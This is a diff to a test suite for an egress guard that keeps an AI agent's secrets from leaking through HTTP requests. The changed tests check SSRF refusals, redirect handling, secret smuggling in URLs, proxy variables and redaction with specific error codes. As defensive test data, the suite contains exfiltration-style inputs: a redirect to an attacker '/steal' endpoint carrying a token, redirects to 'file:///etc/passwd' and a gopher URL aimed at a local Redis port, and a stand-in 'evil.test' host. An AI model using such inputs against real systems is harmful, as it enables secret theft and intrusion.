@@ -9,7 +9,7 @@ import { createGuardedAgent } from '../../src/egress/connector.js';
 import { filesContaining, REPO, runCli, tempHome, type TempHome } from '../helpers/cli.js';
 import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
 import { startStub, type Stub } from '../helpers/stub.js';
-import { expectNoTrace } from '../helpers/traces.js';
+import { expectNoTrace, expectOutcome } from '../helpers/traces.js';
 import { request } from 'undici';
 
 const KEY = 'sk-live+Adv/ers=ar"ial\'&<key>-9f8e7d6c5b4a';
@@ -100,10 +100,12 @@ describe('SSRF: every URL of test/fixtures/ssrf-urls.txt is refused with no conn
       // Without a secret only the address guard (or the scheme/URL check) stands in the way.
       const free = await call(plain, { method: 'GET', url: target });
       expect(free.isError, `${target} was not refused`).toBe(true);
-      expect(visible(free)).toMatch(/ADDRESS_NOT_ALLOWED|SCHEME_NOT_ALLOWED|BAD_INPUT/);
-      // With one, host binding refuses first; either way nothing may connect.
+      const freeCode = /ADDRESS_NOT_ALLOWED|SCHEME_NOT_ALLOWED|BAD_INPUT/.exec(visible(free))?.[0];
+      expect(freeCode, visible(free)).toBeDefined();
+      // With one, host binding refuses first (a bad scheme or URL still fails its own check first);
+      // either way nothing may connect.
       const withSecret = await call(plain, { method: 'GET', url: target, headers: bearer });
-      expect(withSecret.isError).toBe(true);
+      expectOutcome(withSecret, { error: freeCode === 'ADDRESS_NOT_ALLOWED' ? 'HOST_NOT_ALLOWED' : freeCode! });
       expectNoTrace(visible(withSecret), VALUES);
       attackerSawNothing();
     });
@@ -126,8 +128,7 @@ describe('DNS answers are checked on the address actually connected to', () => {
 
   it('refuses a secret bound by wildcard when the name resolves to a private address', async () => {
     const r = await call(pinned, { method: 'GET', url: `http://a.evil.test:${attacker.port}/echo`, headers: { 'X-Key': '<secrets.WILD>' } });
-    expect(r.isError).toBe(true);
-    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
+    expectOutcome(r, { error: 'ADDRESS_NOT_ALLOWED' });
     expectNoTrace(visible(r), VALUES);
     attackerSawNothing();
   });
@@ -155,7 +156,7 @@ describe('redirects never carry a secret elsewhere and never reach private addre
     it(`${status} to the attacker with a secret comes back to the agent, unfollowed`, async () => {
       const to = encodeURIComponent(`http://localhost:${attacker.port}/steal`);
       const r = await call(plain, { method: 'POST', url: `${api.url}/redirect?status=${status}&to=${to}`, headers: bearer, body: 'token=<secrets.KEY>' });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: [] }); // the redirect itself echoes nothing
       expect((r.structuredContent as { status: number }).status).toBe(status);
       expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toBeTruthy();
       expectNoTrace(visible(r), VALUES);
@@ -181,6 +182,7 @@ describe('redirects never carry a secret elsewhere and never reach private addre
   it('a redirect to file: or gopher: is never followed', async () => {
     for (const to of ['file:///etc/passwd', 'gopher://127.0.0.1:6379/_x']) {
       const r = await call(plain, { method: 'GET', url: `${api.url}/redirect?status=302&to=${encodeURIComponent(to)}`, headers: bearer });
+      expectOutcome(r, { redacted: [] });
       expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toMatch(/never followed/);
     }
   });
@@ -190,61 +192,68 @@ describe('values reflected by the API come back scrubbed, in every encoding', ()
   for (const as of ['raw', 'base64', 'base64url', 'basic', 'hex', 'HEX', 'url', 'form', 'json', 'html']) {
     it(`reflected as ${as}`, async () => {
       const r = await call(plain, { method: 'GET', url: `${api.url}/reflect?as=${as}`, headers: bearer });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: ['KEY'] });
       expect(api.requests[0]!.headers.authorization).toBe(`Bearer ${KEY}`);
-      expect((r.structuredContent as { redacted: string[] }).redacted).toContain('KEY');
       expectNoTrace(visible(r), VALUES);
     });
   }
 
   it.each([
-    ['the JSON echo of headers', { method: 'GET', url: '/echo', headers: bearer }],
-    ['a query value echoed in the URL', { method: 'GET', url: '/echo?k=<secrets.KEY>' }],
-    ['a body echoed back', { method: 'POST', url: '/echo', body: 'k=<secrets.KEY>' }],
-    ['a JSON body echoed back', { method: 'POST', url: '/echo', json: { k: '<secrets.KEY>', nested: ['<secrets.KEY>'] } }],
-    ['a path value echoed back', { method: 'GET', url: '/echo/<secrets.PATHKEY>' }],
-    ['response headers', { method: 'GET', url: '/headers', headers: { 'X-Api-Key': '<secrets.HDR>', Authorization: 'Bearer <secrets.KEY>' } }],
-    ['a 401 status text, WWW-Authenticate and body', { method: 'GET', url: '/unauthorized', headers: bearer }],
-    ['a redirect Location and body', { method: 'GET', url: '/redirect-echo', headers: bearer }],
-    ['a gzip body', { method: 'GET', url: '/gzip', headers: bearer }],
-    ['a brotli body', { method: 'GET', url: '/br', headers: bearer }],
-    ['a deflate body', { method: 'GET', url: '/deflate', headers: bearer }],
-  ])('in %s', async (_label, req) => {
+    ['the JSON echo of headers', { method: 'GET', url: '/echo', headers: bearer }, ['KEY']],
+    ['a query value echoed in the URL', { method: 'GET', url: '/echo?k=<secrets.KEY>' }, ['KEY']],
+    ['a body echoed back', { method: 'POST', url: '/echo', body: 'k=<secrets.KEY>' }, ['KEY']],
+    ['a JSON body echoed back', { method: 'POST', url: '/echo', json: { k: '<secrets.KEY>', nested: ['<secrets.KEY>'] } }, ['KEY']],
+    // A 404: the value comes back only in the final URL (checked for its marker below).
+    ['a path value echoed back', { method: 'GET', url: '/echo/<secrets.PATHKEY>' }, []],
+    ['response headers', { method: 'GET', url: '/headers', headers: { 'X-Api-Key': '<secrets.HDR>', Authorization: 'Bearer <secrets.KEY>' } }, ['HDR', 'KEY']],
+    ['a 401 status text, WWW-Authenticate and body', { method: 'GET', url: '/unauthorized', headers: bearer }, ['KEY']],
+    ['a redirect Location and body', { method: 'GET', url: '/redirect-echo', headers: bearer }, ['KEY']],
+    ['a gzip body', { method: 'GET', url: '/gzip', headers: bearer }, ['KEY']],
+    ['a brotli body', { method: 'GET', url: '/br', headers: bearer }, ['KEY']],
+    ['a deflate body', { method: 'GET', url: '/deflate', headers: bearer }, ['KEY']],
+  ] as Array<[string, Record<string, unknown> & { url: string }, string[]]>)('in %s', async (_label, req, names) => {
     const r = await call(plain, { ...req, url: `${api.url}${req.url}` });
     expect(api.requests.length).toBeGreaterThan(0);
+    expectOutcome(r, { redacted: names });
+    if (names.length === 0) expect(visible(r)).toContain('[REDACTED:PATHKEY]');
     expectNoTrace(visible(r), VALUES);
   });
 
   it('a value this process resolved earlier is scrubbed from a later, secret-free response', async () => {
     await call(plain, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
     const r = await call(plain, { method: 'GET', url: `${api.url}/last` });
-    expect(r.isError, visible(r)).toBeFalsy();
+    expectOutcome(r, { redacted: ['KEY'] });
     expect(visible(r)).toContain('[REDACTED:KEY]');
     expectNoTrace(visible(r), VALUES);
   });
 
   it('redaction runs before truncation: a cut in the middle of a value leaks no prefix of it', async () => {
+    const named = new Set<string>();
     for (let maxBytes = 60; maxBytes < 200; maxBytes += 7) {
       const r = await call(plain, { method: 'POST', url: `${api.url}/echo`, body: 'k=<secrets.KEY>', maxBytes });
+      // A cut made before the value is read leaves nothing to scrub; some cut of the sweep must reach it.
+      expectOutcome(r, { redacted: [] });
+      for (const n of (r.structuredContent as { redacted: string[] }).redacted) named.add(n);
       const text = visible(r);
       for (let i = 0; i + 8 <= KEY.length; i++) expect(text.includes(KEY.slice(i, i + 8)), `maxBytes ${maxBytes}`).toBe(false);
     }
+    expect([...named]).toContain('KEY');
   });
 });
 
 describe('requests that would move or smuggle a secret are refused with nothing sent', () => {
   it.each([
-    ['secret in the host', `http://<secrets.KEY>.example.com/`],
-    ['secret in user info', 'http://user:<secrets.KEY>@127.0.0.1/'],
-    ['secret as the port', 'http://127.0.0.1:<secrets.KEY>/'],
-    ['secret in the scheme', '<secrets.KEY>://127.0.0.1/'],
-    ['secret in the fragment', 'API/echo#<secrets.KEY>'],
-    ['header-only secret in the query', 'API/echo?x=<secrets.HDR>'],
-    ['header-only secret in the path', 'API/echo/<secrets.HDR>'],
-    ['unknown secret name', 'API/echo?x=<secrets.NOPE>'],
-  ])('%s', async (_label, url) => {
+    ['secret in the host', 'PLACEMENT_NOT_ALLOWED', `http://<secrets.KEY>.example.com/`],
+    ['secret in user info', 'PLACEMENT_NOT_ALLOWED', 'http://user:<secrets.KEY>@127.0.0.1/'],
+    ['secret as the port', 'PLACEMENT_NOT_ALLOWED', 'http://127.0.0.1:<secrets.KEY>/'],
+    ['secret in the scheme', 'PLACEMENT_NOT_ALLOWED', '<secrets.KEY>://127.0.0.1/'],
+    ['secret in the fragment', 'PLACEMENT_NOT_ALLOWED', 'API/echo#<secrets.KEY>'],
+    ['header-only secret in the query', 'PLACEMENT_NOT_ALLOWED', 'API/echo?x=<secrets.HDR>'],
+    ['header-only secret in the path', 'PLACEMENT_NOT_ALLOWED', 'API/echo/<secrets.HDR>'],
+    ['unknown secret name', 'SECRET_NOT_FOUND', 'API/echo?x=<secrets.NOPE>'],
+  ])('%s', async (_label, code, url) => {
     const r = await call(plain, { method: 'GET', url: url.replace('API', api.url) });
-    expect(r.isError).toBe(true);
+    expectOutcome(r, { error: code });
     expect(api.requests).toHaveLength(0);
     expectNoTrace(visible(r), VALUES);
   });
@@ -281,7 +290,7 @@ describe('proxy variables are never honoured', () => {
     const session = await connectStdio({ ...t.env, HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl, ALL_PROXY: proxyUrl, http_proxy: proxyUrl, https_proxy: proxyUrl });
     try {
       const r = await call(session, { method: 'GET', url: `${api.url}/echo`, headers: bearer });
-      expect(r.isError, visible(r)).toBeFalsy();
+      expectOutcome(r, { redacted: ['KEY'] });
       expect(api.requests).toHaveLength(1);
       expectNoTrace(visible(r), VALUES);
       attackerSawNothing();
@@ -322,14 +331,14 @@ describe('error paths carry no value', () => {
 
   it('a DNS failure', async () => {
     const r = await call(pinned, { method: 'GET', url: `http://no-such-host.invalid:${attacker.port}/?x=1`, headers: { 'X-Key': 'plain' } });
-    expect(r.isError).toBe(true);
+    expectOutcome(r, { error: 'UPSTREAM_ERROR' });
     expectNoTrace(visible(r), VALUES);
     attackerSawNothing();
   });
 
   it('input validation errors echo no value (the agent never had one to give)', async () => {
     const r = await call(plain, { method: 'BREW', url: `${api.url}/echo`, headers: bearer });
-    expect(r.isError).toBe(true);
+    expectOutcome(r, { error: /Input validation/ }); // the SDK's schema check, before the broker
     expect(api.requests).toHaveLength(0);
     expectNoTrace(visible(r), VALUES);
   });
